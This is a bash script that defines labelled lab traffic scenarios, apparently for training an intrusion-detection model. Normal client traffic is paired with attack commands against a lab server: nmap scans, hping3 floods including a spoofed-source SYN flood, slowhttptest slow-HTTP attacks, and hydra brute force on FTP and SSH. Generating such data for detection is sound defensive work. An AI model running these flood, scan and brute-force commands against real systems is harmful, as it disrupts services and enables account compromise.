# The take that the demo's model is trained on. A scenario's name begins with its tool.
# shellcheck shell=bash
readonly NET=10.9.1 SERVER=10.9.1.2

scenarios() {
  # Ordinary use
  scenario siege-web Normal client "siege -q -c 5 -r 20 -d 0.3 -f urls.txt -R /dev/null
    siege -q -b -c 10 -r 10 -f urls.txt -R /dev/null"
  scenario curl-web Normal client "for page in \$(seq 40); do
    curl -s -o /dev/null http://$SERVER/page-\$page.html http://$SERVER/index.html; done"
  scenario curl-ftp Normal client "for i in \$(seq 60); do
    curl -s -o /dev/null -u 'picket:correct horse' ftp://$SERVER/ ftp://$SERVER/numbers.txt; done"
  scenario ssh-sessions Normal client "for i in \$(seq 30); do
    ssh -F ssh_config $SERVER 'uname -a; ls -l /usr/bin | head -n '\$((i * 5)); done"
  scenario scp-files Normal client "for i in \$(seq 8); do
    scp -q -F ssh_config $SERVER:numbers.txt copy-\$i.txt; done"
  scenario dig-lookups Normal client "for i in \$(seq 150); do
    dig +short +tries=1 @$SERVER host-\$((i * 7919)).lab.example; done"
  scenario iperf3-tcp Normal client "for kib in \$(seq 20 20 400); do
    iperf3 --repeating-payload -c $SERVER -n \${kib}K -b \$((kib / 5 + 10))M; done"
  scenario iperf3-udp Normal client "for length in \$(seq 100 100 1400); do
    iperf3 --repeating-payload -c $SERVER -u -b \$((length / 50))M -n 60K -l \$length; done"
  scenario ping-hosts Normal client "for source in \$(seq 20 35); do for target in 2 5 9 13; do
    ping -q -c 3 -i 0.3 -s \$((source * 10)) -I $NET.\$source $NET.\$target & done; done; wait"
  scenario logger-syslog Normal client "for i in \$(seq 160); do
    logger -d -n $SERVER -P 514 -t app \"request \$i: \$(printf '%*d ms' \$((i * 7)) \$i)\"; done"

  # Attacks
  scenario nmap-syn Probe attacker "nmap -n -Pn -sS -T4 -p 1-900 $SERVER"
  scenario nmap-connect Probe attacker "nmap -n -Pn -sT -T4 -p 1-500 $SERVER"
  scenario nmap-udp Probe attacker "nmap -n -Pn -sU -T5 --max-retries 0 -p 1-200 $SERVER"
  scenario hping3-syn DoS attacker "hping3 -q -S -p 80 -i u500 -c 900 $SERVER"
  scenario hping3-udp DoS attacker "for i in \$(seq 60); do
    hping3 -q --udp -k -s \$((20000 + i)) -p 53 -d \$((i * 20)) -i u\$((i * 50)) -c 20 $SERVER & done; wait"
  scenario hping3-icmp DoS attacker "for target in \$(seq 2 17); do
    hping3 -q --icmp -d 56 -i u1000 -c 120 $NET.\$target; done"
  scenario slowhttptest-headers DoS attacker "slowhttptest -H -c 120 -r 60 -i 1 -l 6 -u http://$SERVER/"
  scenario slowhttptest-body DoS attacker "slowhttptest -B -c 120 -r 60 -i 1 -l 6 -u http://$SERVER/"
  scenario hping3-spoofed DDoS attacker "for length in \$(seq 0 30 1470); do
    hping3 -q -S -p 80 -w \$((512 + length)) -d \$length --rand-source -i u20000 -c 30 $SERVER & done; wait"
  scenario hydra-ftp BFA attacker "seq -f 'guess-%g' 150 >guesses.txt
    hydra -q -I -l admin -P guesses.txt -t 8 ftp://$SERVER"
  scenario hydra-ssh BFA attacker "seq -f 'guess-%g' 24 >guesses.txt
    for user in root admin test oracle git deploy; do
      hydra -q -I -l \$user -P guesses.txt -t 12 ssh://$SERVER; done"
}
